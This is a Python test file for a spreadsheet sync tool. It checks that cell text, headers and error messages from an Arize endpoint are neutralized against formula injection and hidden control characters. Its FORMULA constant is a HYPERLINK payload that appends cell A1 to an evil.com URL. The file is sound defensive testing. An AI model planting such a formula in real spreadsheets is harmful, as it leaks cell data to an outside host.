from __future__ import annotations

import unicodedata
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from sheets_sync.arize.answer import readable
from sheets_sync.cli.printing import escape
from sheets_sync.domain.foreign import harmless
from sheets_sync.domain.row import Row
from sheets_sync.domain.status import LONGEST_STATUS, wanted_statuses
from sheets_sync.sandbox.server import Sandbox
from tests.domain.mappings import converter, review_mapping
from tests.sandbox_client import Control
from tests.security.listener import Asked, Told, listening
from tests.service import HEADERS, Service, answer, span

FORMULA = '=HYPERLINK("http://evil.com?"&A1,"mend")'
FIRST = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
ODD = st.text(
    st.one_of(
        st.sampled_from("=+-@\t\r\n\x00\x1b\u202e\u2066\u200b\u200d\ufeff\uff1d "), st.characters()
    )
)


def assert_harmless(text: str, longest: int) -> None:
    """It fits a cell and nothing runs it."""
    assert len(text) <= longest
    assert not text.startswith((*FIRST, " "))
    assert text.splitlines() in ([], [text])
    unseen = {char for char in text if unicodedata.category(char) in {"Cc", "Cf", "Cs", "Co"}}
    assert unseen <= {"\u200c", "\u200d"}


@settings(max_examples=300, deadline=None)
@given(ODD)
@example("\u200d =1")
@example("\u202e=1")
@example("\ud800+1")
def test_any_message_is_harmless(said: str) -> None:
    """Of Arize, as of a sheet; and nothing is lost that people read."""
    assert_harmless(readable(said), 200)
    assert_harmless(harmless(said), len(said) + 2)
    assert harmless("Arize: " + said + ".").endswith(".")
    assert "\x1b" not in escape(said)


@pytest.mark.parametrize(
    "text", ["plain", "2 - 1 = 1", "a@b", "\u0645\u06cc\u200c\u062e", "é 👩\u200d🔬"]
)
def test_what_does_no_harm_is_left_alone(text: str) -> None:
    """Signs within a line, and the joiners that words and emoji need."""
    assert harmless(text) == text


@pytest.mark.parametrize("first", [*FIRST, "\t=", "\u202e="])
def test_a_header_cannot_make_a_formula(first: str) -> None:
    """A status that begins with an expert's header is quoted, whatever it begins with."""
    named = review_mapping(record_id=f"{first}Span", when=None)
    row = tuple("x" * 500 if column == named.record_id else "Goood" for column in named.columns)
    found = wanted_statuses(converter(named), [Row(None, 2, row, "")], {}, "ops")
    assert found[2].startswith('"')
    assert_harmless(found[2], LONGEST_STATUS)


def test_a_formula_in_a_header_stays_text(
    sandbox: Sandbox, control: Control, tmp_path: Path
) -> None:
    """The status of a wrong cell below it is quoted, and shown once for all."""
    headers = [FORMULA if header == "Adequacy" else header for header in HEADERS]
    label = {"column": FORMULA, "values": ["Satisfactory"]}
    service = Service(sandbox.contact, control, tmp_path)
    service.mapping = {"annotations": [{"name": "Adequacy", "label": label}]}
    service.spreadsheet = control.add_spreadsheet(
        [headers, answer(1, "=1+1", "", "", "")], worksheet="Review"
    )
    service.once()
    expected = f'"{FORMULA}: "=1+1" is not one of Satisfactory"'
    assert service.statuses() == {span(1): expected}
    written = len(control.writes())
    service.once()
    assert len(control.writes()) == written


def test_a_formula_of_arize_stays_text(sandbox: Sandbox, control: Control, tmp_path: Path) -> None:
    """A refusal that would be a formula, with lines, bells and turned text, is one short line."""
    said = f"{FORMULA}\r\n\x07\u202e{'x' * 1000}"

    def refuse(_: Asked) -> Told:
        return Told(body={"data": None, "errors": [{"message": said, "path": ["m0"]}]})

    service = Service(sandbox.contact, control, tmp_path, rows=[answer(1, "ok", "", "", "")])
    with listening(refuse) as arize:
        service.arize = {"endpoint": f"{arize.root}/graphql", "dialect": "seed"}
        service.once()
    status = service.statuses()[span(1)]
    assert FORMULA in status
    assert_harmless(status, LONGEST_STATUS)
